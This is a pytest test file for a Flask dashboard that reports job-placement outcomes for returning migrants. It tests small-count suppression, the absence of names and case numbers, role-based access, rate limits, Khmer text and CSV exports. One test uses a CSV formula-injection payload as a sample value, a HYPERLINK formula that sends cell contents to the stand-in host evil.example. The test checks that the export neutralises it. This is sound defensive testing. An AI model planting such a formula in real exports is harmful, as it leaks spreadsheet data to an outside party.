"""The managers' outcomes page and CSV downloads: suppression, no personal data, safe CSV."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from reintegrate.models import AuditEntry, Returnee, User
from reintegrate.services.registry import Consent
from reintegrate.timeutil import local_today
from reintegrate.web.dashboard import spreadsheet_safe
from tests.builders import PASSWORD, make_returnee, make_user
from tests.conftest import AuthActions, csrf_token, log_in
from tests.outcome_builders import Contact, Owners, add_placement, in_work, make_owners

RECENT = local_today() - timedelta(days=400)
EXPORTS = ("outcomes", "channels", "countries", "coverage")


@pytest.fixture
def owners(db_session: Session) -> Owners:
    return make_owners(db_session)


@pytest.fixture
def manager(auth: AuthActions) -> User:
    return auth.as_new("manager")


def _populate(session: Session, owners: Owners) -> None:
    """Province 01: 3 placements (one re-migrated to Laos); 02: 6; 17: 11."""
    for province, n in (("01", 3), ("02", 6), ("17", 11)):
        for i in range(n):
            gone = i == 0 or (province == "17" and i < 6)
            contacts = [
                Contact(1, due_day=30),
                Contact(
                    3,
                    outcome="remigrated" if gone else "employed_same",
                    channel="irregular",
                    country="LA" if province == "01" else "TH",
                ),
            ]
            add_placement(
                session,
                owners,
                start=RECENT,
                province=province,
                sex="female" if i % 2 else "male",
                contacts=contacts,
            )


def _csv(client: FlaskClient, name: str, query: str = "") -> list[list[str]]:
    response = client.get(f"/dashboard/export/{name}.csv{query}")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_manager_sees_the_page_with_tables_and_charts(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    response = client.get("/dashboard?group_by=province")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    for text in (
        "Outcomes of placements",
        "Battambang",
        "Re-migration",
        "Follow-up coverage by province",
        "Thailand",
        "<svg",
        "Staying at home",
        "Staying in work",
        "/dashboard/export/outcomes.csv",
        "/dashboard/export/coverage.csv",
    ):
        assert text in html, text
    assert "style=" not in html
    assert "<script" not in html.split("</header>", 1)[1]
    assert "css/dashboard." in html and ".css" in html  # fingerprinted name


def test_home_sends_managers_to_the_dashboard(client: FlaskClient, manager: User) -> None:
    response = client.get("/")
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/dashboard")


def test_a_group_of_three_never_shows_its_count(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    html = client.get("/dashboard?group_by=province").get_data(as_text=True)
    row = re.search(r"<th scope=\"row\">Banteay Meanchey</th>(.*?)</tr>", html, re.S)
    assert row is not None
    assert re.findall(r">\s*(\d+)", row.group(1)) == []
    second = re.search(r"<th scope=\"row\">Battambang</th><td[^>]*>([^<]*)<", html)
    assert second is not None and second.group(1) == "*"
    assert '<th scope="row">Laos</th><td class="num hidden-cell">*</td>' in html
    # The per-province curves for the small and the secondary group are not drawn.
    curves = re.findall(r'<svg[^>]*aria-labelledby="home-groups-\d+-title.*?</svg>', html, re.S)
    assert len(curves) == 1
    assert "Siemreap</text>" in curves[0]
    assert "Banteay Meanchey" not in curves[0]
    assert "Battambang" not in curves[0]

    rows = _csv(client, "outcomes", "?group_by=province")
    by_label = {r[0]: r[1:] for r in rows[1:]}
    assert set(by_label["Banteay Meanchey"]) == {"*"}
    assert by_label["Battambang"][0] == "*"
    assert by_label["Siemreap"][0] == "11"
    assert by_label["Total"][0] == "20"
    countries = {r[0]: r[1] for r in _csv(client, "countries")[1:]}
    assert countries == {"Laos": "*", "Thailand": "*", "Total": "8"}


def test_no_names_or_case_numbers_anywhere(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    returnee = db_session.get(Returnee, owners.returnee_id)
    assert returnee is not None
    secrets = (returnee.case_number, returnee.given_name, returnee.family_name)
    outputs = [
        client.get(f"/dashboard?group_by={g}").get_data(as_text=True)
        for g in ("province", "programme", "sector", "sex")
    ]
    outputs += [
        client.get(f"/dashboard/export/{name}.csv?group_by=sex").get_data(as_text=True)
        for name in EXPORTS
    ]
    for output in outputs:
        for secret in secrets:
            assert secret not in output


def test_programme_names_are_escaped_in_html_and_csv(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    for _ in range(6):
        add_placement(db_session, owners, start=RECENT, kind="incentive", programme=evil)
    for _ in range(6):
        add_placement(db_session, owners, start=RECENT, kind="incentive", programme="<b>Grant</b>")
    rows = _csv(client, "outcomes", "?group_by=programme")
    labels = [r[0] for r in rows]
    assert "'" + evil in labels
    assert evil not in labels
    html = client.get("/dashboard?group_by=programme").get_data(as_text=True)
    assert "<b>Grant</b>" not in html
    assert "&lt;b&gt;Grant&lt;/b&gt;" in html


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+855", "'+855"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Battambang", "Battambang"),
        ("*", "*"),
    ],
)
def test_spreadsheet_safe(value: str, safe: str) -> None:
    assert spreadsheet_safe(value) == safe


def test_each_export_is_an_audited_attachment(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    for name in EXPORTS:
        rows = _csv(client, name, "?group_by=sex")
        assert rows[-1][0] == "Total"
    actions = db_session.scalars(
        select(AuditEntry.detail).where(
            AuditEntry.action == "export", AuditEntry.user_id == manager.id
        )
    ).all()
    assert sorted(detail["table"] for detail in actions) == sorted(EXPORTS)


def test_coverage_csv_counts_follow_ups(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    rows = _csv(client, "coverage")
    assert rows[0] == [
        "Province",
        "Follow-ups due",
        "Done on time",
        "Done late",
        "Missed",
        "Open, overdue",
        "Open, not yet overdue",
    ]
    siem_reap = next(r for r in rows if r[0] == "Siemreap")
    assert siem_reap == ["Siemreap", "22", "22", "0", "0", "0", "0"]


@pytest.mark.parametrize("role", ["officer", "employer", "admin"])
def test_other_roles_get_403(client: FlaskClient, db_session: Session, role: str) -> None:
    user = make_user(db_session, role)
    log_in(client, user.email, PASSWORD)
    assert client.get("/dashboard").status_code == 403
    assert client.get("/dashboard/export/outcomes.csv").status_code == 403


def test_anonymous_is_sent_to_log_in(client: FlaskClient) -> None:
    response = client.get("/dashboard")
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


def test_bad_choices_are_422_with_the_defaults_shown(
    client: FlaskClient, db_session: Session, manager: User
) -> None:
    response = client.get("/dashboard?from=2026-05&to=2026-01")
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert "The start of the period must not be after its end." in html
    response = client.get("/dashboard?from=2026-01-02&to=2026-01-31")
    assert response.status_code == 422
    assert "the first day of a month" in response.get_data(as_text=True)
    assert '<option value="province" selected>' in html
    response = client.get("/dashboard?group_by=name")
    assert response.status_code == 422
    assert "Unknown value." in response.get_data(as_text=True)
    assert client.get("/dashboard/export/outcomes.csv?from=nope").status_code == 422
    assert client.get("/dashboard/export/returnees.csv").status_code == 404


def test_the_page_says_figures_are_protected_and_by_how_much_in_english_and_khmer(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    html = client.get("/dashboard").get_data(as_text=True)
    assert "may differ from the true count by up to 2" in html
    client.post(
        "/language", data={"lang": "km", "next": "/dashboard", "csrf_token": csrf_token(client)}
    )
    html = client.get("/dashboard").get_data(as_text=True)
    assert "អាចខុសពីចំនួនពិតរហូតដល់ 2" in html


def test_past_the_hourly_limit_the_page_and_downloads_are_429_in_english_and_khmer(
    app: Flask,
    client: FlaskClient,
    db_session: Session,
    owners: Owners,
    manager: User,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setitem(app.config, "STATS_QUERIES_PER_HOUR", 2)
    assert client.get("/dashboard").status_code == 200
    assert client.get("/dashboard/export/outcomes.csv").status_code == 200
    response = client.get("/dashboard/export/coverage.csv")
    assert response.status_code == 429
    response = client.get("/dashboard")
    assert response.status_code == 429
    assert "You have asked for statistics too often" in response.get_data(as_text=True)
    client.post(
        "/language", data={"lang": "km", "next": "/dashboard", "csrf_token": csrf_token(client)}
    )
    response = client.get("/dashboard")
    assert response.status_code == 429
    assert "ញឹកញាប់ពេក" in response.get_data(as_text=True)


def _khmer(client: FlaskClient) -> None:
    client.post(
        "/language", data={"lang": "km", "next": "/dashboard", "csrf_token": csrf_token(client)}
    )


def test_every_rate_states_what_it_is_a_share_of_in_tables_headlines_and_charts(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    # Province 17: 12 placements, 9 contacted at 6 months, 6 of them in work then.
    for i in range(12):
        contacts = [Contact(1)]
        if i < 9:
            contacts.append(Contact(6, outcome="employed_same" if i < 6 else "unemployed"))
        add_placement(db_session, owners, start=RECENT, province="17", contacts=contacts)
    html = client.get("/dashboard?group_by=province").get_data(as_text=True)
    row = re.search(r'<th scope="row">Siemreap</th>(.*?)</tr>', html, re.S)
    assert row is not None
    assert "6 of 9" in row.group(1) and "(67%)" in row.group(1)
    assert "In work at 6 months, of those contacted then" in html
    assert "6 of 9 contacted at 6 months" in html
    bars = re.search(r'<svg[^>]*aria-labelledby="outcomes-bars-title.*?</svg>', html, re.S)
    assert bars is not None
    assert "In work at 6 months, of those contacted at 6 months" in bars.group(0)
    assert "6 of 9 (67%)</text>" in bars.group(0)
    assert ">Placed<" not in bars.group(0)
    _khmer(client)
    html = client.get("/dashboard?group_by=province").get_data(as_text=True)
    assert "6 នៃ 9" in html


def test_the_outcomes_table_keeps_the_12_month_columns_in_view(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    """Seven columns, rates folded into "so many of so many", headings that wrap."""
    _populate(db_session, owners)
    html = client.get("/dashboard").get_data(as_text=True)
    table = re.search(r'<table class="list stats">.*?</thead>', html, re.S)
    assert table is not None
    headings = re.findall(r'<th scope="col"[^>]*>([^<]*)</th>', table.group(0))
    assert len(headings) == 8
    assert "In work at 12 months, of those contacted then" in headings
    response = client.get("/static/css/dashboard.css")
    css = response.get_data(as_text=True)
    response.close()
    assert "table.stats th.num { text-align: right; white-space: normal;" in css


def test_retention_charts_are_wide_and_one_small_chart_per_group(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    for province in ("02", "12", "17"):
        for _ in range(8):
            add_placement(
                db_session, owners, start=RECENT, province=province, contacts=in_work(1, 3, 6, 12)
            )
    html = client.get("/dashboard?group_by=province").get_data(as_text=True)
    for chart_id in ("home-overall", "work-overall", "outcomes-bars"):
        svg = re.search(rf'<svg[^>]*aria-labelledby="{chart_id}-title[^>]*>', html)
        assert svg is not None
        assert 'width="720"' in svg.group(0)
    small = re.findall(r'<svg[^>]*aria-labelledby="home-groups-\d+-title.*?</svg>', html, re.S)
    assert len(small) == 3
    for svg in small:
        assert svg.count("<polyline") == 2  # the group's curve and its legend key
        assert svg.count("<polygon") == 1  # one band per chart: none hides another
        assert all(int(size) >= 11 for size in re.findall(r'font-size="(\d+)"', svg))
    assert "Phnom Penh Capital: 8 followed" in html


def test_every_figure_says_how_many_placements_it_counts_and_leaves_out(
    client: FlaskClient, db_session: Session, owners: Owners, manager: User
) -> None:
    _populate(db_session, owners)
    officer = make_user(db_session, provinces=["02"])
    refused = make_returnee(
        db_session,
        officer,
        consent=Consent(referral=True, share_with_employers=False, research=False),
    )
    for _ in range(6):
        add_placement(
            db_session,
            Owners(refused.id, owners.listing_id),
            start=RECENT,
            province="17",
            contacts=in_work(1),
        )
    html = client.get("/dashboard").get_data(as_text=True)
    assert html.count("Counts 20 placements that started in this period.") == 1
    assert html.count("6 more placements of this period are left out") == 4
    assert "Counts the 20 of the 20 placements contacted at least once." in html
    assert "Counts the 8 re-migrated placements among the 20 of this period." in html
    _khmer(client)
    html = client.get("/dashboard").get_data(as_text=True)
    assert html.count("ការដាក់ឱ្យធ្វើការចំនួន 6 ទៀត") == 4
